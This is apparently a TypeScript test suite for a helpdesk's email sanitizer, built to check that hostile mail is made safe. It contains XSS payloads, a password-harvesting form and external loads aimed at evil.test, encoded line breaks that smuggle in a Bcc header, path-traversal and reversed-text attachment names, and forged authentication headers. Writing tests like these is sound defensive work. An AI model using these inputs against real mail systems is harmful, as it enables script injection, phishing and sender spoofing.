import { filePart, htmlMail, mailCase, multipart, plain, raw, textPart, type MailCase } from './case';

const harmless =
  /<script|<style|<iframe|<object|<form|<meta|<base|<link|<svg|javascript:|vbscript:|\son\w+\s*=|expression\(|url\(|position:|\ssrc=/i;
const html = (name: string, code: string, has: readonly string[] = ['seen']): MailCase =>
  mailCase(`HTML: ${name}`, htmlMail(`<p>seen</p>${code}`), { html: { has, hasNot: [harmless] } });

export const hostile: readonly MailCase[] = [
  html('a script', '<script>alert(1)</script>'),
  html('a script in other letters', '<ScRiPt src=//evil.test/x.js></ScRiPt>'),
  html('a half-closed script', '<script>alert(1)'),
  html('a nested script', '<scr<script>ipt>alert(1)</scr</script>ipt>'),
  html('an event on an image', '<img src=x onerror=alert(1)>'),
  html('an event on the body', '<body onload=alert(1)>'),
  html('a javascript link', '<a href="javascript:alert(1)">go</a>', ['seen', 'go']),
  html('a javascript link with a tab inside', '<a href="java\tscript:alert(1)">go</a>', ['seen']),
  html('a data link', '<a href="data:text/html;base64,PHNjcmlwdD4=">go</a>', ['seen']),
  html('an SVG', '<svg onload=alert(1)><script>alert(1)</script></svg>'),
  html('a frame', '<iframe src="https://evil.test"></iframe>'),
  html(
    'a form that asks for a password',
    '<form action="https://evil.test"><input name=password><button>Go</button></form>',
  ),
  html('a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.test">'),
  html('a base', '<base href="https://evil.test/">'),
  html(
    'a style that covers the page',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  ),
  html('a style that loads a picture', '<div style="background:url(https://evil.test/x.png)">x</div>'),
  html(
    'a style sheet',
    '<style>@import url(https://evil.test/x.css)</style><link rel=stylesheet href=//evil.test>',
  ),
  html('a math element', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'),
  html('a comment that is none', '<!--><img src=x onerror=alert(1)>-->'),
  html('an object', '<object data="https://evil.test/x.swf"></object><embed src=x>'),
  mailCase(
    'HTML: a picture from elsewhere is named, not loaded',
    htmlMail('<p>seen</p><img src="https://evil.test/pixel.png?id=1" width=1>'),
    { html: { has: ['data-remote="https://evil.test/pixel.png?id=1"'], hasNot: [/\ssrc=/] } },
  ),
  mailCase(
    'HTML: a picture of the mail itself is named by its cid',
    htmlMail('<img src="cid:logo@example">'),
    { html: { has: ['data-cid="logo@example"'], hasNot: [/\ssrc=/] } },
  ),
  mailCase(
    'HTML: a picture that was pasted in stays, a drawing or page does not',
    htmlMail(
      '<img src="data:image/png;base64,iVBORw0KGgo="><img src="data:image/svg+xml;base64,PHN2Zz4="><img src="data:text/html,x">',
    ),
    {
      html: {
        has: ['data-here="data:image/png;base64,iVBORw0KGgo="'],
        hasNot: [/\ssrc=/, 'svg', 'text/html'],
      },
    },
  ),
  mailCase(
    'HTML: a data-here attribute of the sender’s own is not taken',
    htmlMail('<p>seen</p><img data-here="https://evil.test/x.png" src="cid:x">'),
    { html: { has: ['seen'], hasNot: ['evil.test'] } },
  ),
  mailCase(
    'HTML: a link goes outward without a word about us',
    htmlMail('<a href="https://example.test/x" target=_top>go</a>'),
    { html: { has: ['rel="noopener noreferrer nofollow"', 'target="_blank"'] } },
  ),
  mailCase(
    'HTML: a data-cid attribute of the sender’s own is not taken',
    htmlMail('<img data-cid="&quot;><script>alert(1)</script>" src="cid:x">'),
    { html: { hasNot: ['<script'] } },
  ),
  mailCase(
    'HTML: nested 100,000 deep',
    htmlMail(`${'<div>'.repeat(100_000)}deep text${'</div>'.repeat(100_000)}`),
    { text: /deep text/ },
  ),
  mailCase('HTML: 300,000 bold', htmlMail(`${'<b>'.repeat(300_000)}deep text`), { text: /deep text/ }),
  mailCase('HTML: 50,000 open angle brackets', htmlMail(`deep text ${'<'.repeat(50_000)}`), {
    text: /deep text/,
  }),
  mailCase('a NUL in the subject', raw({ Subject: 'Prin\0ter' }), { title: 'Printer' }),
  mailCase('a NUL in the text', plain('one\0two'), { text: 'onetwo' }),
  mailCase(
    'a line break smuggled into the subject',
    raw({ Subject: '=?utf-8?Q?Printer=0D=0ABcc:_all@example.test?=' }),
    { title: 'Printer Bcc: all@example.test' },
  ),
  mailCase(
    'a line break and an address smuggled into the name',
    raw({ From: '=?utf-8?Q?Anna=0D=0ABcc:_evil@example.test?= <anna@example.test>' }),
    { name: 'anna@example.test', from: 'anna@example.test' },
  ),
  mailCase('a name that is another address', raw({ From: '"boss@example.test" <evil@example.net>' }), {
    from: 'evil@example.net',
    name: 'evil@example.net',
  }),
  mailCase(
    'a name that is turned around',
    raw({ From: '=?utf-8?Q?Anna=E2=80=AEavorteP?= <anna@example.test>' }),
    { name: 'AnnaavorteP' },
  ),
  mailCase(
    'a file name with a path',
    multipart('mixed', [textPart('x'), filePart('../../etc/passwd', 'text/plain', Buffer.from('x'))]),
    { files: ['passwd'] },
  ),
  mailCase(
    'a file name with a Windows path',
    multipart('mixed', [
      textPart('x'),
      filePart('C:\\\\Windows\\\\evil.exe', 'application/octet-stream', Buffer.from('x')),
    ]),
    { files: ['evil.exe'] },
  ),
  mailCase(
    'a file name with a script',
    multipart('mixed', [
      textPart('x'),
      filePart('<script>alert(1)<-script>.png', 'image/png', Buffer.from('x')),
    ]),
    { files: ['<script>alert(1)<-script>.png'] },
  ),
  mailCase(
    'a file name that is turned around',
    multipart('mixed', [
      textPart('x'),
      {
        headers: {
          'Content-Type': 'application/pdf',
          'Content-Disposition': "attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe",
        },
        body: Buffer.from('x'),
      },
    ]),
    { files: ['invoicefdp.exe'] },
  ),
  mailCase(
    'a file name of only dots',
    multipart('mixed', [textPart('x'), filePart('..', 'text/plain', Buffer.from('x'))]),
    { files: ['file'] },
  ),
  mailCase(
    'a media type with a line break',
    multipart('mixed', [
      textPart('x'),
      {
        headers: { 'Content-Type': 'text/evil type; x', 'Content-Disposition': 'attachment; filename=a.txt' },
        body: Buffer.from('x'),
      },
    ]),
    { files: ['a.txt'] },
  ),
  mailCase(
    'a forged token in To is nobody’s',
    raw({ To: 'support+sd-1042.r.h.aaaaaaaaaaaaaaaa@helpdesk.test' }),
    { kind: 'person', to: ['support+sd-1042.r.h.aaaaaaaaaaaaaaaa@helpdesk.test'] },
  ),
  mailCase(
    'a From that our server found forged',
    raw({ 'Authentication-Results': 'mx.helpdesk.test; dmarc=fail header.from=example.test' }),
    { authentication: 'fail' },
  ),
  mailCase(
    'a From that our server found right',
    raw({ 'Authentication-Results': 'mx.helpdesk.test; dkim=pass; dmarc=pass header.from=example.test' }),
    { authentication: 'pass' },
  ),
  mailCase(
    'a result that somebody else wrote',
    raw({ 'Authentication-Results': ['evil.test; dmarc=pass'] }),
    { authentication: 'unknown' },
  ),
  mailCase(
    'a forged result below a foreign one',
    raw({ 'Authentication-Results': ['evil.test; dmarc=pass', 'mx.helpdesk.test; dmarc=pass'] }),
    { authentication: 'unknown' },
  ),
];
